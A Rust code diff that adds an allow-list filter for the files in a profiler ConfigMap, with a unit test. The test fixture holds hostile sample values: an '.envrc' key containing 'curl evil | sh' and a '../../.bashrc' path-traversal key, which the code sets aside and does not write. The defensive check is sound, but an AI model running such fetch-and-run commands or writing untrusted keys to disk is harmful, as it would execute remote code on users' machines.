@@ -264,9 +264,68 @@ fn coverage(s: &mut String, st: &ResourceWatchStatus) {
     }
 }
 
+/// The files a profile's ConfigMap may give, and from which part: `profile.folded` and
+/// `profile.svg` as text (`data`), `profile.pb.gz` as bytes (`binaryData`), as the
+/// operator writes them (operator/shell/src/profile_store.rs).
+pub const PROFILE_FILES: [(&str, bool); 3] = [
+    ("profile.folded", false),
+    ("profile.svg", false),
+    ("profile.pb.gz", true),
+];
+
+/// What to write of a profile's ConfigMap: only the files in [`PROFILE_FILES`], each
+/// from its own part. Anyone who may write ConfigMaps in the namespace could add keys
+/// such as `.envrc` or `../x`: those are returned apart, to be reported, never written.
+pub fn profile_files(
+    data: &std::collections::BTreeMap<String, String>,
+    binary: &std::collections::BTreeMap<String, Vec<u8>>,
+) -> (Vec<(&'static str, Vec<u8>)>, Vec<String>) {
+    let mut files = Vec::new();
+    for (name, is_binary) in PROFILE_FILES {
+        let bytes = if is_binary {
+            binary.get(name).cloned()
+        } else {
+            data.get(name).map(|s| s.clone().into_bytes())
+        };
+        if let Some(b) = bytes {
+            files.push((name, b));
+        }
+    }
+    let known = |k: &String, b: bool| PROFILE_FILES.contains(&(k.as_str(), b));
+    let ignored = data
+        .keys()
+        .filter(|k| !known(k, false))
+        .chain(binary.keys().filter(|k| !known(k, true)))
+        .cloned()
+        .collect();
+    (files, ignored)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_the_known_profile_files_are_written() {
+        let data = [
+            ("profile.folded", "a;b 1\n"),
+            (".envrc", "curl evil | sh"),
+            ("../../.bashrc", "x"),
+            ("profile.pb.gz", "text where bytes belong"),
+        ]
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .into();
+        let binary = [("profile.pb.gz".to_owned(), vec![0x1f, 0x8b])].into();
+        let (files, ignored) = profile_files(&data, &binary);
+        assert_eq!(
+            files,
+            vec![
+                ("profile.folded", b"a;b 1\n".to_vec()),
+                ("profile.pb.gz", vec![0x1f, 0x8b])
+            ]
+        );
+        assert_eq!(ignored, vec!["../../.bashrc", ".envrc", "profile.pb.gz"]);
+    }
 
     fn watch() -> ResourceWatch {
         serde_json::from_value(serde_json::json!({
